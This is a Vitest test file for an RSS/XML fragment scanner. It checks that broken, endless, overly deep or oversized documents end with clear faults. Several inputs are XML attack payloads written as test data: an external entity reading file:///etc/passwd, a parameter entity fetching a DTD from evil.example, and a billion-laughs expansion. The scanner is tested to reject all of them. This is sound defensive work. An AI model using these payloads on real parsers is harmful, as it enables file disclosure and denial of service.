import { describe, expect, it } from 'vitest'
import { MOST_DEPTH, MOST_UNITS } from '../../../../src/ingest/formats/xml/fragment-scanner.ts'
import { documentOf, fragmentsOf } from './fragments-of.ts'

const OPEN = '<rss><channel><item>whole</item>'

describe('A document that cannot be read on', () => {
  it.each([
    ['nothing at all', '', 'the document is empty', 0, 1],
    ['blanks', ' \n\n', 'the document is empty', 0, 3],
    ['JSON', '{"items": []}', 'no XML', 0, 1],
    ['a page', '<!DOCTYPE html>\n<html><body>Sign in</body></html>', 'an HTML page', 0, 2],
    ['a page without type', '<!-- x -->\n<html><body>Sign in</body></html>', 'an HTML page', 0, 2],
    ['a page by another spelling', '<?xml version="1.0"?><HTML lang="en">', 'an HTML page', 0, 1],
    ['a page with rest', '<!doctype HTML><br><p>Robots may not', 'an HTML page', 0, 1],
    ['another feed', '<feed xmlns="http://www.w3.org/2005/Atom"/>', 'the root of this format is <rss>', 0, 1],
    ['two documents', `${documentOf('<item/>')}<rss/>`, 'well-formed XML', 1, 5],
    ['a cut text', `${OPEN}\n<item>te`, 'breaks off', 1, 2],
    ['a cut tag', `${OPEN}\n<item a="b`, 'breaks off', 1, 2],
    ['a cut comment', `${OPEN}<!-- a`, 'breaks off', 1, 1],
    ['a cut before its last tag', `${OPEN}</channel>`, 'breaks off', 1, 1],
    ['a bare ampersand', `${OPEN}\n<item>Tom & Jerry</item>;`, '&amp;', 1, 2],
    ['a wrong end', `${OPEN}<item><a></b></a></item>`, 'closed by its own name', 1, 1],
    ['an attribute twice', `${OPEN}<item a="1" a="2"/>`, 'stands once', 1, 1],
    ['an attribute twice by its namespace', `${OPEN}<item xmlns:a="u" xmlns:b="u" a:c="1" b:c="2"/>`, 'once', 1, 1],
    ['a control character', `${OPEN}\n\n<item>\u0001</item>`, 'control character', 1, 3],
    ['a number of no character', `${OPEN}<item>&#0;</item>`, '&amp;', 1, 1],
    ['a half of a pair', `${OPEN}<item>&#xD800;</item>`, '&amp;', 1, 1],
    ['the prefix of XML itself', `${OPEN}<item xmlns:xml="urn:other"/>`, 'well-formed XML', 1, 1],
  ])(
    'The reading of %s ends with a fault that says why, behind the items before it',
    async (_, text, hint, items, line) => {
      const { fragments, fault } = await fragmentsOf(text)
      expect(fragments).toHaveLength(items)
      expect(fault).toMatchObject({ rule: 'broken-document', severity: 'error', line })
      expect(fault?.hint).toContain(hint)
    },
  )

  it.each([
    ['an entity', '<!DOCTYPE rss [<!ENTITY a "b">]>'],
    ['an external entity', '<!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/passwd">]>'],
    ['a parameter entity', '<!DOCTYPE rss [<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]>'],
    ['a billion laughs', '<!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'],
    ['a public type', '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/rss.dtd">'],
    ['a type that is cut', '<!DOCTYPE rss [<!ENTITY a "b"'],
  ])('A document type with %s is never read', async (_, doctype) => {
    const { fragments, fault } = await fragmentsOf(documentOf('<item>&a;</item>', doctype))
    expect(fragments).toEqual([])
    expect(fault).toMatchObject({ rule: 'broken-document', hint: expect.stringContaining('<!DOCTYPE') })
  })

  it('Elements that nest too deep end the reading at once', async () => {
    const nested = (depth: number) => documentOf(`${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}`)
    expect((await fragmentsOf(nested(MOST_DEPTH - 2))).fault).toBeNull()
    expect((await fragmentsOf(nested(MOST_DEPTH - 1))).fault).toMatchObject({ rule: 'too-deep', line: 3 })
    expect((await fragmentsOf(nested(100_000))).fault).toMatchObject({ rule: 'too-deep' })
  })
})

describe('A document without an end', () => {
  const filler = 'x'.repeat(8192)

  it.each([
    ['text', '<item>', filler],
    ['CDATA', '<item><![CDATA[', filler],
    ['attribute', '<item a="', filler],
    ['tag name', '<', filler],
    ['attribute name', '<item ', filler],
    ['comment', '<!--', filler],
    ['processing instruction', '<?x ', filler],
    ['entity name', '<item>&', filler],
    ['run of entities', '<item>', '&amp;'.repeat(2000)],
    ['run of attributes', '<item ', Array.from({ length: 800 }, (_, index) => `a${index}="1"`).join(' ')],
    ['run of blanks', '', ' '.repeat(8192)],
    ['document type', '', filler],
  ])('An endless %s is not read for long', async (what, start, more) => {
    let pulled = 0
    async function* endless(): AsyncGenerator<Uint8Array> {
      yield new TextEncoder().encode(what === 'document type' ? '<!DOCTYPE ' : `<rss><channel><item/>${start}`)
      for (; ; pulled += more.length) yield new TextEncoder().encode(more)
    }
    const { fragments, fault } = await fragmentsOf(endless())
    expect(fault).toMatchObject({ severity: 'error', rule: expect.stringMatching(/^(too-large|broken-document)$/) })
    expect(fragments).toHaveLength(what === 'document type' ? 0 : 1)
    expect(pulled).toBeLessThan(MOST_UNITS + 4 * 8192)
  })

  it('An item that is too large is given up by itself, and the next one is read', async () => {
    const item = (size: number) => `<item><guid>1</guid>${'<a>12345</a>'.repeat(size / 12)}</item>`
    const { fragments, fault } = await fragmentsOf(documentOf(`${item(4 * MOST_UNITS)}\n<item>next</item>`))
    expect(fault).toBeNull()
    expect(fragments.map(({ isTooLarge, source }) => [isTooLarge, source.length])).toEqual([
      [true, MOST_UNITS],
      [false, 17],
    ])
    expect(fragments[0]?.element.children[0]?.text).toBe('1')
    expect(fragments[0]?.element.children.length).toBeLessThan(MOST_UNITS / 12)
    expect(fragments[1]?.element.line).toBe(4)
  })
})
